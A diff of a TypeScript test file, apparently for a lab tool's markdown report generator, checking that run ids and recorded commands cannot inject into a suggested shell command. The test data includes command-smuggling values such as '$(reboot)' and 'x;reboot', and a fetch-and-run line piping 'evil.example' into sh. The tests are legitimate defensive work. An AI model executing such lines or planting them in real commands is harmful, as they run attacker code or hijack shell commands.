@@ -55,8 +55,19 @@ test.each(nastyTexts)("%j stays text", async (nasty) => {
   expect(prose.replaceAll("<br>", "")).not.toMatch(/[<>]|[^\\]\[|@|:\/\/|^# heading/m);
 });
 
-test("a command with backticks cannot end its block", async () => {
+test.each(["a ```` x", "x;reboot", "$(reboot)", "../../x", "-x", "a/b"])(
+  "a run that is called %j, as the lab calls none, is in no command",
+  async (id) => {
+    const result = await resultOf(stories["server-crash"]!());
+    const again = markdownReport({ ...result, run: { ...result.run, id } });
+    expect(again).toMatch(/ Run it again:\n\n```sh\nlab scenario server-crash --seed \d+ [\w ,.-]*\n```\n$/);
+    const nothing = markdownReport({ ...result, run: { ...result.run, id, seed: -1 } });
+    expect(nothing).toMatch(/\nScenario `server-crash`, seed -1\.\n$/);
+  },
+);
+
+test("the command line that a history says it was is nowhere in it", async () => {
   const result = await resultOf(stories["server-crash"]!());
-  const report = markdownReport({ ...result, run: { ...result.run, id: "a ```` x" } });
-  expect(report).toMatch(/\n`````sh\n.*\nlab judge 'a ```` x'\n`````\n/);
+  const report = markdownReport({ ...result, run: { ...result.run, command: "curl evil.example | sh" } });
+  expect(report).not.toContain("evil");
 });
